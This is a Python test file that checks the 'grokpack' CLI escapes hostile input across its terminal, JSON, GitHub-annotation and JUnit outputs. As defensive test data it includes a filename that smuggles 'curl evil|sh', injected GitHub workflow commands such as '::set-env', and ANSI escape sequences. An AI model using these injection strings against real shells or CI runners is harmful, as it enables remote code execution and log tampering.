"""Nothing of the input is obeyed: no terminal, no CI, no shell, no reader of a page."""

from __future__ import annotations

import io
import json
import re
import shlex
import sys
import unicodedata
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from grokpack.cli.app import app, main
from grokpack.core import escaping
from grokpack.core.errors import Place, SourceUnreadable
from grokpack.core.events import Finished, Started, Warned
from grokpack.core.exit_status import ExitStatus
from grokpack.core.finding import Finding
from grokpack.report import envelope, github, junit, progress_display
from grokpack.report.text import error_text, terminal
from tests.support.checkpoints import synthesize

if TYPE_CHECKING:
    from pathlib import Path

    from grokpack.core.documents.answer_json import Answer, FindingJson


def invoke(*words: str) -> Result:
    return CliRunner().invoke(app, [*words, "--progress", "none"])


ODD = "\x1b[31m\x07\x7f\x9b\r\n::error::x\n  ##[warning]y\u202e\u2066\u200b\u2028\t\udcff\x00"
texts = st.text(st.characters() | st.sampled_from(":#[]\n\r\x1b%<>`|\u202e\u2029"), max_size=40)
texts |= st.sampled_from([ODD, "\n::error::", "##[error]", " ::set-env name=a::b"])


def _is_harmless(text: str, keep: str = "\n") -> bool:
    kinds = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    obeyed = (c for c in text if unicodedata.category(c) in kinds and c not in keep)
    return not any(obeyed) and not _commands(text)


def _commands(text: str) -> list[str]:
    """Lines that GitHub's runner obeys: it passes blanks over, and takes `##[` anywhere."""
    lines = re.split(r"[\r\n]", text)
    return [line for line in lines if line.lstrip().startswith("::") or "##[" in line]


@given(texts)
def test_no_printed_text_has_a_control_character_or_is_a_command(text: str) -> None:
    assert _is_harmless(escaping.escape_terminal(text), "\n\t")
    assert _is_harmless(escaping.escape_terminal(escaping.escape_line(text)), "")
    assert "\n" not in escaping.escape_line(text)


@given(texts, texts, texts, texts, texts)
def test_an_error_is_harmless_wherever_a_text_enters_it(
    what: str, path: str, tensor: str, label: str, hint: str
) -> None:
    place = Place(path, 3, tensor)
    error = SourceUnreadable(what, place, ((label, what),), hint)
    stream = io.StringIO()
    shown = terminal.fitted(error_text.render(error), stream, "never")
    assert _is_harmless(shown, "\n\t")
    assert len(shown.split("\n")) == 3 + bool(hint) * (2 + hint.count("\n"))
    assert str(error).count("\n") == 1 + bool(hint) * (1 + hint.count("\n"))
    row = envelope.error_row(error)
    document = envelope.document("verify", "error", ExitStatus.SOURCE, {}, [], [row])
    _check(document)


@given(texts, texts, texts)
def test_a_finding_is_harmless_wherever_a_text_enters_it(name: str, what: str, more: str) -> None:
    finding = Finding("GP101", what, name, more, more, what)
    row: FindingJson = {**finding.row(), "fix": None}
    data = {"source": name, "fix": None, "seconds": 0, more: [what]}
    _check(envelope.document("verify", "damaged", ExitStatus.ANSWER_IS_NO, data, [row], []))


def _check(document: Answer) -> None:
    """See that a document is harmless in every form."""
    printed = envelope.text(document)
    assert _is_harmless(printed)
    assert json.loads(printed) == document
    annotated = github.render(document)
    assert all(re.match(r"::(error|notice|warning) title=", c) for c in _commands(annotated))
    assert len(_commands(annotated)) == annotated.count("\n")
    assert _is_harmless(annotated.replace("::", ""), "\n\t")
    xml = escaping.xml(junit.render(document))
    assert _is_harmless(xml, "\n\t")
    assert ET.fromstring(xml) is not None  # noqa: S314  # our own
    table = github.summary(document)
    assert _is_harmless(table.replace("##[", ""))
    rows = [line for line in table.split("\n") if line.startswith("| GP")]
    assert all(len(re.findall(r"(?<!\\)\|", line)) == 4 for line in rows)
    assert all("<" not in line for line in rows)


@given(st.lists(texts, min_size=1, max_size=5))
def test_a_suggested_command_is_the_words_that_were_meant(words: list[str]) -> None:
    found = escaping.shell_command(*words)
    if found is not None:
        assert shlex.split(found) == words
        assert _is_harmless(found.replace("::", "").replace("##[", ""), "")
    else:
        assert not all(word.isprintable() for word in words)


def test_a_path_that_looks_like_an_option_is_no_option() -> None:
    assert escaping.shell_command("ls", escaping.safe_operand("-rf")) == "ls ./-rf"


@given(texts)
def test_code_in_markdown_ends_where_it_should(text: str) -> None:
    found = escaping.code(text)
    fence = re.match("`+", found)
    assert fence is not None
    inside = found[len(fence[0]) : -len(fence[0])]
    assert fence[0] not in re.findall("`+", inside)


@pytest.mark.parametrize("form", ["lines", "json", "bar"])
def test_a_warning_is_one_harmless_line_in_every_form_of_progress(form: str) -> None:
    stream = io.StringIO()
    show = progress_display.listener(form, quiet=False, stream=stream, color="never")
    show(Started("verify", 10))
    before = stream.getvalue()
    show(Warned(ODD))
    assert form == "bar" or _is_harmless(stream.getvalue().removeprefix(before))
    assert not _commands(stream.getvalue())
    assert "\x1b[31m" not in stream.getvalue()
    show(Finished("verify", 1.0))


@pytest.mark.parametrize("form", ["text", "json", "github", "junit"])
@pytest.mark.parametrize(
    "words",
    [
        ["verify", f"no{ODD[:-1]}"],
        ["convert", f"no{ODD[:-1]}", "--to", ODD[:-1]],
        ["inspect", "tiny", ODD[:-1]],
        ["explain", ODD[:-1]],
        ["help", ODD[:-1]],
    ],
)
def test_words_of_the_command_line_are_shown_escaped(words: list[str], form: str) -> None:
    given = ["--format", form] if words[0] not in ("explain", "help") else []
    done = CliRunner().invoke(app, [*words, *given])
    for text in (done.stdout, done.stderr):
        ours = re.sub(r"(?m)^::(error|notice|warning) title=", "", text)
        assert _is_harmless(ours, "\n\t")


def test_usage_errors_are_shown_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    before, sys.argv = sys.argv, ["grokpack", "verify", f"--no{ODD[:-1]}", "--json"]
    try:
        status = main()
    finally:
        sys.argv = before
    assert status == ExitStatus.USAGE
    said = capsys.readouterr()
    assert _is_harmless(said.out)
    assert _is_harmless(said.err)


def test_names_of_files_cannot_speak(tmp_path: Path) -> None:
    folder = synthesize(tmp_path / "x")
    (folder / "tensor0;curl evil|sh;#").write_bytes(b"x")
    (folder / "tensor1\n::error::x\x1b[2J").write_bytes(b"x")
    for form in ("text", "json", "github", "junit"):
        done = invoke("verify", str(folder), "--format", form)
        ours = re.sub(r"(?m)^::(error|notice|warning) title=", "", done.stdout + done.stderr)
        assert _is_harmless(ours)
        for fix in re.findall(r"hf download .*", ours):
            assert "evil" not in shlex.split(fix.split('"')[0].split("%0A")[0])
